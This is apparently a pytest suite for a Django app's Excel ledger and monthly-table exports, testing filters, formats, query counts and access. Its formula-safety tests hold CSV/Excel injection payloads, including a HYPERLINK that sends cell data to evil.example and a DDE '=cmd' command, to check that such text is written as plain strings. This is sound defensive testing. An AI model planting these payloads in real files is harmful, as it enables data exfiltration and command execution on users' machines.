"""Excel out: the project ledger and the monthly table, their scope and filters, formula safety, query counts."""

from __future__ import annotations

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.http import HttpRequest
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from keyprojects.api.auth import issue_token
from keyprojects.progress import domain, excel_export, rates
from keyprojects.progress.excel_common import FORMULA_TRIGGERS
from keyprojects.progress.models import AnnualPlan, AnnualPlanRevision, MonthlyReport, ReportStatus
from keyprojects.projects.models import Project, ProjectType, Stage
from tests.conftest import PASSWORD

D = Decimal
YEAR, MONTH = 2026, 10
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADER_ROW = 3


def at(year, month, day=3):
    return timezone.make_aware(datetime.datetime(year, month, day, 10))


def filed(year, month):
    return at(year + month // 12, month % 12 + 1)


@pytest.fixture
def w(world):
    Project.objects.filter(pk=world.project_a.pk).update(
        stage=Stage.CONSTRUCTION, actual_start=datetime.date(2025, 6, 1)
    )
    world.project_a.refresh_from_db()
    domain.save_annual_plan(world.project_a, by=world.dispatcher, year=YEAR, data={"planned_investment": "10000"},
                            now=at(2026, 1, 10))  # fmt: skip
    for month, amount in ((8, "1000"), (9, "1500"), (10, "2000")):
        report = domain.create_report(world.project_a, by=world.dispatcher, year=YEAR, month=month,
                                      data={"investment": amount, "progress_text": f"{month}月主体施工"},
                                      now=filed(YEAR, month))  # fmt: skip
        domain.submit(report, by=world.dispatcher, now=filed(YEAR, month))
    return world


def sheet_rows(data: bytes, sheet: str | None = None):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb[sheet] if sheet else wb.worksheets[0]
    headers = [c.value for c in ws[HEADER_ROW]]
    rows = [dict(zip(headers, [c.value for c in row], strict=True)) for row in ws.iter_rows(min_row=HEADER_ROW + 1)]
    return ws, headers, rows


def ledger(user, params=None, year=YEAR, month=MONTH, **kw) -> bytes:
    f = excel_export.ledger_file(user, params or {}, year, month, **kw)
    try:
        return f.read()
    finally:
        f.close()


def test_ledger_columns_and_figures(w):
    ws, headers, rows = sheet_rows(ledger(w.dispatcher))
    assert headers[:5] == ["序号", "项目代码", "项目名称", "建设单位", "建设内容"]
    for name in ("总投资（万元）", "2026年计划投资（万元）", "10月完成投资（万元）", "2026年1-10月累计完成（万元）",
                 "年度完成率", "形象进度", "存在问题", "责任单位", "分包领导", "阶段", "状态", "已更正"):  # fmt: skip
        assert name in headers
    assert "2026年10月" in ws["A1"].value
    row = next(r for r in rows if r["项目名称"] == w.project_a.name)
    assert row["2026年计划投资（万元）"] == 10000
    assert row["10月完成投资（万元）"] == 2000
    assert row["2026年1-10月累计完成（万元）"] == 4500
    assert row["年度完成率"] == pytest.approx(0.45)
    assert row["形象进度"] == "10月主体施工"
    assert row["分包领导"] == "leader" and row["阶段"] == "在建" and row["月报状态"] == "已提交"
    n = HEADER_ROW + 1 + rows.index(row)
    assert ws.cell(n, headers.index("总投资（万元）") + 1).number_format == "#,##0.00"
    assert ws.cell(n, headers.index("年度完成率") + 1).number_format == "0.0%"
    other = next(r for r in rows if r["项目名称"] == w.project_b.name)
    assert other["月报状态"] == "未填报" and other["10月完成投资（万元）"] is None


def test_ledger_follows_scope_and_list_filters(w):
    _, _, rows = sheet_rows(ledger(w.town_officer))
    assert [r["项目名称"] for r in rows] == [w.project_a.name]
    _, _, rows = sheet_rows(ledger(w.dispatcher, {"stage": "signed"}))
    assert [r["项目名称"] for r in rows] == [w.project_b.name]
    ws, _, rows = sheet_rows(ledger(w.dispatcher, {"q": "联东"}))
    assert [r["项目名称"] for r in rows] == [w.project_a.name]
    assert "搜索：联东" in ws["A2"].value
    _, _, rows = sheet_rows(ledger(w.sysadmin))
    assert rows == []


def test_restated_and_revised_figures_are_marked(w):
    for report in MonthlyReport.objects.filter(project=w.project_a):
        domain.review(report, by=w.town_officer, now=filed(YEAR, report.month))
        domain.confirm(report, by=w.dispatcher, now=filed(YEAR, report.month))
    domain.lock_month(YEAR, 10, by=w.dispatcher, now=at(2026, 11, 20))
    september = MonthlyReport.objects.get(project=w.project_a, month=9)
    domain.restate(september, by=w.dispatcher, changes={"investment": "1800"}, reason="发票核对后更正")
    _, _, rows = sheet_rows(ledger(w.dispatcher))
    row = next(r for r in rows if r["项目名称"] == w.project_a.name)
    assert row["已更正"] == "累计数因以前月份更正而调整"
    assert row["2026年1-10月累计完成（万元）"] == 4800
    _, _, rows = sheet_rows(ledger(w.dispatcher, month=9))
    assert next(r for r in rows if r["项目名称"] == w.project_a.name)["已更正"] == "本月数据已更正（1次）"


def test_original_plan_is_shown_beside_a_revised_one(w):
    domain.save_annual_plan(w.project_a, by=w.dispatcher, year=YEAR, data={"planned_investment": "8000"},
                            reason="年中调整", effective_month=7, now=at(2026, 7, 2))  # fmt: skip
    assert AnnualPlanRevision.objects.filter(plan__project=w.project_a).count() == 2
    _, _, rows = sheet_rows(ledger(w.dispatcher))
    row = next(r for r in rows if r["项目名称"] == w.project_a.name)
    assert (row["2026年计划投资（万元）"], row["年初计划（万元）"]) == (8000, 10000)
    _, _, rows = sheet_rows(ledger(w.dispatcher, month=6))
    assert next(r for r in rows if r["项目名称"] == w.project_a.name)["2026年计划投资（万元）"] == 10000


# --- formula safety ------------------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0"]  # fmt: skip


def _assert_no_formulas(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell)
    return texts


def test_text_that_looks_like_a_formula_is_written_as_text(w):
    Project.objects.filter(pk=w.project_a.pk).update(name=HOSTILE[0], owner_name=HOSTILE[1],
                                                      construction_content=HOSTILE[2])  # fmt: skip
    Project.objects.filter(pk=w.project_b.pk).update(name=HOSTILE[3], owner_name=HOSTILE[4],
                                                      construction_content=HOSTILE[6])  # fmt: skip
    MonthlyReport.objects.filter(project=w.project_a, month=10).update(progress_text=HOSTILE[5])
    data = ledger(w.dispatcher)
    texts = _assert_no_formulas(data)
    by_value = {c.value: c for c in texts}
    for value in HOSTILE:
        cell = by_value[value.replace("\r", "\r")] if value in by_value else None
        assert cell is not None, value
        assert cell.data_type == "s" and cell.quotePrefix, value
    # The monthly table too.
    f = excel_export.monthly_file(w.dispatcher, {}, YEAR, MONTH)
    _assert_no_formulas(f.read())


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    prefix=st.sampled_from([t for t in FORMULA_TRIGGERS if t != "\x00"]),
    rest=st.text(alphabet=st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), max_size=40),
)  # PostgreSQL text holds no NUL; lone surrogates are not text any request or file can carry
def test_any_text_starting_with_a_trigger_stays_text(w, prefix, rest):
    name = (prefix + rest)[:200]
    Project.objects.filter(pk=w.project_a.pk).update(name=name)
    data = ledger(w.dispatcher, {"sort": "name"})
    _assert_no_formulas(data)


# --- bounded queries, streaming ---------------------------------------------------------------------------------


def _many(w, n: int, start: int = 0) -> None:
    projects = Project.objects.bulk_create(
        Project(name=f"批量项目{start + i}", owner_name="批量公司", industry=w.industry,
                project_type=ProjectType.FILING, total_investment=D("50000"), responsible_unit=w.dongjie,
                town=w.dongjie, stage=Stage.CONSTRUCTION, actual_start=datetime.date(2025, 1, 1))
        for i in range(n)
    )  # fmt: skip
    AnnualPlan.objects.bulk_create(
        AnnualPlan(project=p, year=YEAR, planned_investment=D("6000"), original_planned_investment=D("6000"))
        for p in projects
    )
    MonthlyReport.objects.bulk_create(
        MonthlyReport(project=p, year=YEAR, month=m, investment=D("500"), ytd_investment=D(500 * (m - 7)),
                      since_start_investment=D(500 * (m - 7)), status=ReportStatus.CONFIRMED)
        for p in projects for m in (8, 9, 10)
    )  # fmt: skip


def _queries(fn) -> int:
    with CaptureQueriesContext(connection) as ctx:
        fn()
    return len(ctx.captured_queries)


def test_ledger_queries_do_not_grow_with_projects(w, django_assert_max_num_queries):
    _many(w, 5)
    few = _queries(lambda: ledger(w.dispatcher))
    _many(w, 120, start=5)
    with django_assert_max_num_queries(few):
        data = ledger(w.dispatcher)
    _, _, rows = sheet_rows(data)
    assert len(rows) == 127
    # One more query per chunk of projects, never one per project.
    assert _queries(lambda: ledger(w.dispatcher, chunk_size=50)) == few + 2


def test_monthly_table_matches_the_rates(w, django_assert_max_num_queries):
    _many(w, 30)
    with django_assert_max_num_queries(20):
        f = excel_export.monthly_file(w.dispatcher, {}, YEAR, MONTH, "unit")
        data = f.read()
    table = rates.completion_table(Project.objects.all(), YEAR, MONTH, "unit")
    _, headers, rows = sheet_rows(data, "完成情况汇总")
    total = rows[-1]
    assert total["单位"] == "合计"
    assert total["年度累计完成（万元）"] == table.total.ytd_in_plan
    assert total["年度完成率"] == pytest.approx(float(table.total.annual_rate))
    _, _, detail = sheet_rows(data, "项目明细")
    assert {r["项目名称"] for r in detail} == set(AnnualPlan.objects.filter(year=YEAR).values_list(
        "project__name", flat=True))  # fmt: skip


# --- API and pages ---------------------------------------------------------------------------------------------


def _auth(user):
    raw, _ = issue_token(user, name="t")
    return {"HTTP_AUTHORIZATION": f"Bearer {raw}"}


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_api_ledger_export(w, client):
    r = client.get("/api/v1/projects/export.xlsx", {"year": YEAR, "month": MONTH, "stage": "construction"},
                   **_auth(w.dispatcher))  # fmt: skip
    assert r.status_code == 200 and r["Content-Type"] == XLSX
    assert "attachment" in r["Content-Disposition"]
    _, _, rows = sheet_rows(_body(r))
    assert [row["项目名称"] for row in rows] == [w.project_a.name]
    r = client.get("/api/v1/projects/export.xlsx", {"stage": "nonsense"}, **_auth(w.dispatcher))
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["query", "stage"]
    r = client.get("/api/v1/projects/export.xlsx", {"year": 2099, "month": 1}, **_auth(w.dispatcher))
    assert r.status_code == 422
    assert client.get("/api/v1/projects/export.xlsx").status_code == 401
    assert client.get("/api/v1/projects/export.xlsx", **_auth(w.auditor)).status_code == 403
    # The project detail route is still there.
    assert client.get(f"/api/v1/projects/{w.project_a.pk}", **_auth(w.dispatcher)).status_code == 200


def test_api_monthly_table(w, client):
    r = client.get("/api/v1/monthly-reports/export.xlsx", {"group_by": "town"}, **_auth(w.town_officer))
    assert r.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(_body(r)))
    assert wb.sheetnames == ["完成情况汇总", "项目明细"]
    r = client.get("/api/v1/monthly-reports/export.xlsx", {"group_by": "colour"}, **_auth(w.town_officer))
    assert r.status_code == 422


def test_page_exports(w, client):
    client.login(request=HttpRequest(), username="town_officer", password=PASSWORD)
    r = client.get("/projects/export.xlsx", {"stage": "construction"})
    assert r.status_code == 200 and r["Content-Type"] == XLSX
    _, _, rows = sheet_rows(_body(r))
    assert [row["项目名称"] for row in rows] == [w.project_a.name]
    r = client.get("/reports/export.xlsx", {"year": YEAR, "month": MONTH})
    assert r.status_code == 200
    assert client.get("/projects/export.xlsx", {"month": "13"}).status_code == 302
    client.logout()
    assert client.get("/projects/export.xlsx").status_code == 302  # to the login page
    client.login(request=HttpRequest(), username="auditor", password=PASSWORD)
    assert client.get("/projects/export.xlsx").status_code == 403


# --- the streaming writer: what reads back ---------------------------------------------------------------------


def _cell(ws, headers, rows, name: str, header: str):
    row = next(r for r in rows if r["项目名称"] == name)
    return ws.cell(HEADER_ROW + 1 + rows.index(row), headers.index(header) + 1)


def test_number_formats_read_back(w):
    Project.objects.filter(pk=w.project_a.pk).update(planned_start=datetime.date(2025, 3, 1),
                                                      planned_end=datetime.date(2027, 6, 30))  # fmt: skip
    ws, headers, rows = sheet_rows(ledger(w.dispatcher))
    name = w.project_a.name
    for header in ("总投资（万元）", "2026年计划投资（万元）", "10月完成投资（万元）", "2026年1-10月累计完成（万元）"):
        cell = _cell(ws, headers, rows, name, header)
        assert cell.data_type == "n" and cell.number_format == "#,##0.00", header
    for header in ("年度完成率", "总投资完成率"):
        cell = _cell(ws, headers, rows, name, header)
        assert cell.number_format == "0.0%" and isinstance(cell.value, float), header
    start = _cell(ws, headers, rows, name, "计划开工")
    assert start.number_format == "yyyy-mm-dd" and start.value == datetime.datetime(2025, 3, 1)
    assert _cell(ws, headers, rows, name, "计划竣工").value == datetime.datetime(2027, 6, 30)
    serial = _cell(ws, headers, rows, name, "序号")
    assert serial.data_type == "n" and serial.number_format == "General"
    assert _cell(ws, headers, rows, name, "项目名称").data_type == "s"


def test_layout_and_header_styles(w):
    ws, headers, _ = sheet_rows(ledger(w.dispatcher))
    assert ws.freeze_panes == "D4"
    widths = {header: width for header, width, _ in excel_export.ledger_columns(YEAR, MONTH)}
    for i, header in enumerate(headers, start=1):
        assert ws.column_dimensions[openpyxl.utils.get_column_letter(i)].width == widths[header]
        cell = ws.cell(HEADER_ROW, i)
        assert cell.font.b and cell.font.name == "宋体" and cell.font.sz == 10
        assert cell.fill.fill_type == "solid" and cell.fill.fgColor.rgb.endswith("DDEBF7")
        assert cell.alignment.horizontal == "center" and cell.alignment.wrap_text
        assert cell.border.left.style == "thin" and cell.border.bottom.color.rgb.endswith("BFBFBF")
    assert ws["A1"].font.b and ws["A1"].font.sz == 14
    assert ws["A2"].value.startswith("数据截至2026年10月")


def test_texts_starting_with_equals_or_at_read_back_as_text(w):
    Project.objects.filter(pk=w.project_a.pk).update(name="=1+1", owner_name="@SUM(A1:A3)",
                                                      construction_content="-1")  # fmt: skip
    ws, headers, rows = sheet_rows(ledger(w.dispatcher))
    row = next(r for r in rows if r["项目名称"] == "=1+1")
    assert row["建设单位"] == "@SUM(A1:A3)" and row["建设内容"] == "-1"
    for header in ("项目名称", "建设单位", "建设内容"):
        cell = _cell(ws, headers, rows, "=1+1", header)
        assert cell.data_type == "s" and cell.quotePrefix, header
    plain = _cell(ws, headers, rows, w.project_b.name, "项目名称")
    assert plain.data_type == "s" and not plain.quotePrefix


def test_restated_flag_is_filled(w):
    for report in MonthlyReport.objects.filter(project=w.project_a):
        domain.review(report, by=w.town_officer, now=filed(YEAR, report.month))
        domain.confirm(report, by=w.dispatcher, now=filed(YEAR, report.month))
    domain.lock_month(YEAR, 10, by=w.dispatcher, now=at(2026, 11, 20))
    domain.restate(MonthlyReport.objects.get(project=w.project_a, month=10), by=w.dispatcher,
                   changes={"investment": "2100"}, reason="发票核对后更正")  # fmt: skip
    ws, headers, rows = sheet_rows(ledger(w.dispatcher))
    flag = _cell(ws, headers, rows, w.project_a.name, "已更正")
    assert flag.value == "本月数据已更正（1次）"
    assert flag.fill.fill_type == "solid" and flag.fill.fgColor.rgb.endswith("FFF2CC")
    assert _cell(ws, headers, rows, w.project_b.name, "已更正").value is None
    # Only the flag cell is filled.
    assert _cell(ws, headers, rows, w.project_a.name, "月报状态").fill.fill_type is None


def test_export_of_no_projects_has_the_headings_only(w):
    ws, headers, rows = sheet_rows(ledger(w.dispatcher, {"q": "没有这样的项目"}))
    assert rows == [] and ws.max_row == HEADER_ROW
    assert headers == [header for header, _, _ in excel_export.ledger_columns(YEAR, MONTH)]
    assert "没有这样的项目" in ws["A2"].value
    f = excel_export.monthly_file(w.dispatcher, {"q": "没有这样的项目"}, YEAR, MONTH)
    try:
        data = f.read()
    finally:
        f.close()
    _, _, detail = sheet_rows(data, "项目明细")
    assert detail == []
    ws, _, summary = sheet_rows(data, "完成情况汇总")
    assert summary[-1]["单位"] == "合计" and ws.freeze_panes == "C4"


def test_monthly_table_queries_do_not_grow_with_projects(w, django_assert_max_num_queries):
    def monthly(**kw):
        f = excel_export.monthly_file(w.dispatcher, {}, YEAR, MONTH, "unit", **kw)
        f.close()

    _many(w, 5)
    few = _queries(monthly)
    _many(w, 120, start=5)
    with django_assert_max_num_queries(few):
        monthly()
    assert _queries(lambda: monthly(chunk_size=50)) == few + 2
